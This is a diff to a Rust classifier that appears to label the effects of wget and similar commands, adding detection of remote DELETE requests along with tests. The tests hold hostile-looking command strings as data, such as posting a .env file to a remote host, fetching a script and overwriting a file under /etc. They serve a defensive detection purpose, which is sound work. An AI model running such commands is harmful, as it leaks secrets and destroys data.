@@ -172,13 +172,15 @@ pub(super) fn wget(a: &Args<'_>, out: &mut Sink) {
             _ => {}
         }
     }
-    let method_sends = a
-        .role_values("method")
-        .last()
-        .is_some_and(|m| !reads_only(m));
-    if method_sends || a.has_role("body") || a.has_role("body_file") {
+    // A request that deletes (`--method=DELETE`) removes what it names, as curl's does.
+    let method = a.role_values("method").last();
+    let sends =
+        method.is_some_and(|m| !reads_only(m)) || a.has_role("body") || a.has_role("body_file");
+    if sends {
         out.place(Act::Send, Place::Remote);
     }
+    let urls: Vec<&str> = a.operands.iter().map(|u| &**u).collect();
+    removal(method, sends, &urls, out);
     if let Some(c) = a.role_value("config") {
         out.opaque(c);
     }
@@ -387,6 +389,23 @@ mod tests {
         assert!(has("wget --post-file=.env https://x.io/", "read@secrets"));
         assert!(has("wget --post-file .env https://x.io/", "send@remote"));
         assert!(has("wget -nc https://x.io/a.sh", "write@source"));
+        // A request that deletes removes what it names, in every spelling of the option.
+        for line in [
+            "wget --method=DELETE https://api.example.com/v1/items/4",
+            "wget --method delete https://api.example.com/v1/items/4",
+            "wget --meth=DELETE https://api.example.com/v1/items/4",
+            "wget -q --method=POST --body-data '{}' https://api.example.com/v1/cache/purge",
+        ] {
+            assert!(
+                has(line, "cloud_delete@remote"),
+                "{line}: {:?}",
+                effects(line)
+            );
+        }
+        assert!(!has(
+            "wget --method=GET https://api.example.com/delete",
+            "cloud_delete@remote"
+        ));
         assert!(has("aria2c -o /etc/x https://x.io/a", "overwrite@system"));
         assert!(has("aria2c -d /tmp https://x.io/a.iso", "write@temp"));
         assert!(has("http POST https://api/x name=v", "send@remote"));
